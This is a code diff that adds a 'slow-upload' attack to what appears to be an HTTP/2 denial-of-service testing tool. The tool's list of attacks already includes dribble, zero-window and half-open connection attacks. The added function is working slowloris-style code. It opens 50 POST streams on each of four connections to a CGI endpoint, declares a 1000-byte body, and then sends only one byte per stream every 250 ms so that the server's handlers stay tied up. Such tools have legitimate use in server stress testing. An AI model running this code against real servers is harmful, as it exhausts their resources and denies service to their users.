@@ -626,6 +626,32 @@ def dribble(ctx: Ctx):
     _stream_notes(ctx)
 
 
+def slow_upload(ctx: Ctx):
+    """4 connections x 50 uploads (content-length 1000) to a CGI, one byte
+    per stream every 250 ms: each stream keeps a handler reading a body
+    that hardly comes (slowloris on streams)."""
+    sids = [1 + 2 * i for i in range(50)]
+    block = request_block("POST", cgi_path(ctx), ctx.authority, lit_name_index(28, "1000"))
+    nudge = b"".join(frame(DATA, 0, s, b"x") for s in sids)
+    last = {}
+
+    def open_conn():
+        c = ctx.connect()
+        if c is not None:
+            c.queue(b"".join(frame(HEADERS, F_EH, s, block) for s in sids), len(sids))
+            c.flush()
+            last[id(c)] = time.monotonic()
+        return c
+
+    def tick(c: Conn):
+        now = time.monotonic()
+        if now - last.get(id(c), now) >= 0.25:
+            last[id(c)] = now
+            c.queue(nudge, len(sids))
+    _hold(ctx, 4, open_conn, tick, poll=0.05)
+    _stream_notes(ctx)
+
+
 def half_open(ctx: Ctx):
     """1000 connections that send half the client preface and go silent."""
     ctx.show_frames = False
@@ -690,6 +716,8 @@ ATTACKS = [
            "opened", zero_window),
     Attack("dribble", "data dribble: 4 conns x 25 streams, stream windows opened 1 byte at "
            "a time", dribble),
+    Attack("slow-upload", "slow uploads: 4 conns x 50 streams to a CGI, 1 byte per stream "
+           "every 250 ms", slow_upload, cgi=True),
     Attack("half-open", "1000 connections sending half a preface", half_open),
 ]
 
